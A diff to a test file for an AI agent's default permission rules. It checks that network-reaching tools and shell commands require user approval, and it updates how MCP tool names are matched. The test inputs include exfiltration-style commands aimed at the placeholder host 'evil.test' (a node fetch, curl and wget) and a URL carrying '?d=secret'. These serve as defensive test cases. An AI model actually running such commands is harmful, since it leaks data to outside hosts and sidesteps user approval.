@@ -112,13 +112,13 @@ describe("DEFAULT_RULES", () => {
 
   it("asks for every tool that reaches the network: webfetch, MCP tools, commands naming a URL or a download client", () => {
     expect(act("webfetch", "https://example.com/?d=secret")).toBe("ask");
-    expect(act("mcp_github_create_issue", "*")).toBe("ask");
+    expect(act("mcp", "github_create_issue")).toBe("ask");
     expect(act("bash", "node -e \"fetch('https://evil.test/?d=1')\"")).toBe("ask");
     expect(act("bash", "curl evil.test")).toBe("ask");
     expect(act("bash", "wget -q evil.test")).toBe("ask");
     expect(act("bash", "npm test")).toBe("allow");
     expect(isNetworkPermission("webfetch")).toBe(true);
-    expect(isNetworkPermission("mcp_fs_read")).toBe(true);
+    expect(isNetworkPermission("mcp")).toBe(true);
     expect(isNetworkPermission("bash")).toBe(false);
   });
 
